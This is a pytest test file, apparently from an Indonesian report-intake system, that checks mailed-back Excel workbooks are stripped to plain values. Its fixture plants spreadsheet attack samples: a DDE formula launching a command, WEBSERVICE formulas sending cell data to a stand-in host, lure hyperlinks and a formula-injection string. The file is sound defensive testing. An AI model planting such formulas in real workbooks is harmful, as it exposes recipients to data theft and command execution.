"""What goes back to a unit for a workbook that came by mail: our own form and plain values, nothing of the sender's."""

import io
import zipfile
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.drawing.image import Image
from openpyxl.workbook.defined_name import DefinedName

from tests.intake.photos import drawn
from tests.steps.mail_post import KUL, MemoryPost, mail
from tests.steps.office_walk import Walk, attachments, cell_of, sample_form, saved

EVIL = "http://penipu.example"
NARRATIVE, RESULT = "Uraian kegiatan", "Realisasi TW II"
FORMULAS = {
    NARRATIVE: f'=HYPERLINK("{EVIL}/a","Klik di sini")',
    "Kendala": f'=WEBSERVICE("{EVIL}/b?"&A1)',
    "Rencana tindak lanjut": "=cmd|'/c calc'!A0",
}


def hostile() -> bytes:
    """A filled form in which a stranger hid whatever a workbook can hold."""
    book = load_workbook(io.BytesIO(sample_form("KUL")))
    sheet = book["Isian"]
    for title, formula in FORMULAS.items():
        sheet[cell_of(sheet, "A4-11", title)] = formula
    sheet[cell_of(sheet, "A4-11", RESULT)] = "kira-kira empat"
    linked = sheet[cell_of(sheet, "A4-14", NARRATIVE)]
    linked.hyperlink = f"{EVIL}/c"
    linked.comment = Comment(f"Lihat {EVIL}/d", "Orang")
    sheet[cell_of(sheet, "A4-14", "Kendala")] = "-2+3|cmd"
    sheet.add_image(Image(io.BytesIO(drawn("PNG", (40, 40)))), "Z9")
    book.create_sheet("Undian").append([f"Buka {EVIL}/e"])
    book.defined_names["Curi"] = DefinedName("Curi", attr_text=f'WEBSERVICE("{EVIL}/f")')
    book.properties.creator = "penipu"
    return saved(book)


def sent_back(walk: Walk) -> bytes:
    return attachments(walk.answer_to("KUL"))["Perbaikan_KUL_LATIHAN.xlsx"]


def words_of(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        return "\n".join(f"{name}\n{parts.read(name).decode('utf-8', 'replace')}" for name in parts.namelist())


def values(book: Workbook) -> dict[str, Any]:
    return {cell.coordinate: cell.value for row in book["Isian"].iter_rows() for cell in row if cell.value is not None}


@pytest.fixture
def walk(opened: Walk, memory: MemoryPost) -> Walk:
    return opened.with_settings(**memory.settings())


def test_nothing_of_the_senders_workbook_goes_back_but_its_values(walk: Walk, memory: MemoryPost) -> None:
    memory.deliver(mail({"Isian.xlsx": hostile()}))
    walk.collect()
    content = sent_back(walk)
    words, book = words_of(content), load_workbook(io.BytesIO(content))
    for trace in (EVIL, "penipu", "HYPERLINK", "WEBSERVICE", "hyperlink", "Undian", "Curi", "xl/media", "externalLink"):
        assert trace not in words
    assert [name for name in book.sheetnames if name != "Daftar"] == ["Isian", "Petunjuk"]
    assert not [cell for row in book["Isian"].iter_rows() for cell in row if cell.data_type == "f"]
    cell = book["Isian"][cell_of(book["Isian"], "A4-14", "Kendala")]
    assert (cell.value, cell.data_type) == ("-2+3|cmd", "s")


def test_values_and_marks_stand_where_they_stood(walk: Walk, memory: MemoryPost) -> None:
    sent = load_workbook(io.BytesIO(hostile()))
    memory.deliver(mail({"Isian.xlsx": hostile()}))
    walk.collect()
    book = load_workbook(io.BytesIO(sent_back(walk)))
    formulas = {cell.coordinate for row in sent["Isian"].iter_rows() for cell in row if cell.data_type == "f"}
    assert values(book) == {place: value for place, value in values(sent).items() if place not in formulas}
    marked = cell_of(sent["Isian"], "A4-11", RESULT)
    comments = {cell.coordinate: cell.comment.text for row in book["Isian"].iter_rows() for cell in row if cell.comment}
    assert "kira-kira empat" in comments[marked] or "angka" in comments[marked]
    named = comments[cell_of(sent["Isian"], "A4-14", NARRATIVE)]
    assert ("Catatan pada sel" in named, "Lihat" in named) == (True, False), "that it bears a comment, and not which"


def test_an_address_behind_the_words_of_an_evidence_cell_stands_beside_them(walk: Walk, memory: MemoryPost) -> None:
    form = load_workbook(io.BytesIO(hostile()))
    sheet = form["Isian"]
    evidence = sheet[cell_of(sheet, "A4-14", "Data dukung")]
    evidence.value, evidence.hyperlink = "Folder bukti", "https://drive.google.com/drive/folders/abc"
    memory.deliver(mail({"Isian.xlsx": saved(form)}))
    walk.collect()
    back = values(load_workbook(io.BytesIO(sent_back(walk))))
    assert back[evidence.coordinate] == "Folder bukti: https://drive.google.com/drive/folders/abc"


def test_the_copy_serves_to_send_again(walk: Walk, memory: MemoryPost) -> None:
    memory.deliver(mail({"Isian.xlsx": hostile()}))
    walk.collect()
    book = load_workbook(io.BytesIO(sent_back(walk)))
    sheet = book["Isian"]
    for title, value in {RESULT: "4", NARRATIVE: "Rapat evaluasi SOP pada 3 Maret 2026."}.items():
        cell = sheet[cell_of(sheet, "A4-11", title)]
        assert not cell.protection.locked
        cell.value = value
    memory.deliver(mail({"Perbaikan.xlsx": saved(book)}, number=2))
    (answer,) = walk.collect().answers
    assert "4 dari 4 indikator terisi" in answer.sentence


def test_a_unit_that_moved_its_rows_finds_them_where_it_put_them(walk: Walk, memory: MemoryPost) -> None:
    book = load_workbook(io.BytesIO(hostile()))
    book["Isian"].insert_rows(1, 2)  # above the table, which so stands three rows lower than it went out
    book["Isian"].title = "Lembar kami"
    moved = saved(book)
    memory.deliver(mail({"Isian.xlsx": moved}))
    walk.collect()
    back = load_workbook(io.BytesIO(sent_back(walk)))
    assert back["Isian"][cell_of(back["Isian"], "A4-11", RESULT)].value == "kira-kira empat"
    last = back["Isian"][cell_of(back["Isian"], "QW-35", RESULT)]
    assert (last.protection.locked, back["Isian"].protection.sheet) == (False, True)
    assert cell_of(back["Isian"], "A4-11", RESULT) == cell_of(book["Lembar kami"], "A4-11", RESULT)


def test_a_workbook_that_was_mailed_comes_back_so_also_when_its_evidence_follows_through_the_folder(
    walk: Walk, memory: MemoryPost
) -> None:
    memory.deliver(mail({"Isian.xlsx": hostile()}, sender=KUL))
    walk.collect()
    walk.put("KUL", "SK A4-11.pdf", b"%PDF-1.4\n%%EOF")
    walk.collect()
    assert EVIL not in words_of(sent_back(walk))
